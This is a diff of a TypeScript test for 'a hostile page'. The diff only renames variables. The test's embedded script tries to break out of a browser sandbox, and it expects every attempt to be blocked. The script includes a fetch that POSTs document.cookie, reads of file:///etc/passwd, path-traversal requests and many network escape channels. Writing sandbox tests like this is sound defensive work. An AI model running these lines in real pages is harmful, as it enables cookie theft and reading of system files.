@@ -27,10 +27,10 @@ describe.skipIf(whyNot !== undefined)('a hostile page', () => {
     });
     expect(seen()).toBe(1);
     expect(light).toBeDefined();
-    const said = behaviour.consoleErrors.join('\n');
-    expect(said).toContain('Not allowed to load local resource: file:///etc/passwd');
-    expect(said).not.toContain('REACHED');
-    expect(said).toContain('tried all');
+    const output = behaviour.consoleErrors.join('\n');
+    expect(output).toContain('Not allowed to load local resource: file:///etc/passwd');
+    expect(output).not.toContain('REACHED');
+    expect(output).toContain('tried all');
     expect(behaviour.failedRequests.map(({ url }) => url)).toEqual(
       expect.arrayContaining([`http://127.0.0.1:${port}/frame`]),
     );
@@ -176,33 +176,33 @@ async function listen() {
 function escapes(port: number): string {
   return `
 const there = ['http://127.0.0.1:${port}', 'http://localhost:${port}', 'https://example.com'];
-const tell = (how) => () => console.error('REACHED ' + how);
+const report = (how) => () => console.error('REACHED ' + how);
 for (const url of there) {
-  fetch(url, { mode: 'no-cors' }).then(tell('fetch'), () => {});
+  fetch(url, { mode: 'no-cors' }).then(report('fetch'), () => {});
   fetch(url, { mode: 'no-cors', method: 'POST', body: document.cookie, keepalive: true }).catch(() => {});
   navigator.sendBeacon(url, 'x');
   const request = new XMLHttpRequest();
-  request.onload = tell('xhr');
+  request.onload = report('xhr');
   request.open('GET', url);
   request.send();
-  new WebSocket(url.replace('http', 'ws')).onopen = tell('websocket');
-  new EventSource(url).onopen = tell('events');
+  new WebSocket(url.replace('http', 'ws')).onopen = report('websocket');
+  new EventSource(url).onopen = report('events');
   window.open(url);
   const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: 'f' });
   document.body.append(form);
   form.submit();
   new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '", { mode: "no-cors" })'])));
 }
-fetch('file:///etc/passwd').then(tell('file'), () => {});
-fetch('/../../../etc/passwd').then((answer) => answer.ok && tell('path')());
-fetch('/..%2f..%2f..%2fetc%2fpasswd').then((answer) => answer.ok && tell('path')());
+fetch('file:///etc/passwd').then(report('file'), () => {});
+fetch('/../../../etc/passwd').then((answer) => answer.ok && report('path')());
+fetch('/..%2f..%2f..%2fetc%2fpasswd').then((answer) => answer.ok && report('path')());
 navigator.serviceWorker.register('worker.js').then(() => navigator.serviceWorker.getRegistrations())
-  .then((all) => all.length > 0 && tell('service worker')(), () => {});
+  .then((all) => all.length > 0 && report('service worker')(), () => {});
 const peer = new RTCPeerConnection({ iceServers: [
   { urls: 'stun:127.0.0.1:${port}' }, { urls: 'turn:127.0.0.1:${port}?transport=tcp', username: 'a', credential: 'b' } ] });
 peer.createDataChannel('x');
 peer.createOffer().then((offer) => peer.setLocalDescription(offer));
-new WebTransport('https://127.0.0.1:${port}').ready.then(tell('transport'), () => {});
+new WebTransport('https://127.0.0.1:${port}').ready.then(report('transport'), () => {});
 document.querySelector('#download').click();
 location.href = 'http://127.0.0.1:${port}/left';
 location.href = 'file:///etc/passwd';
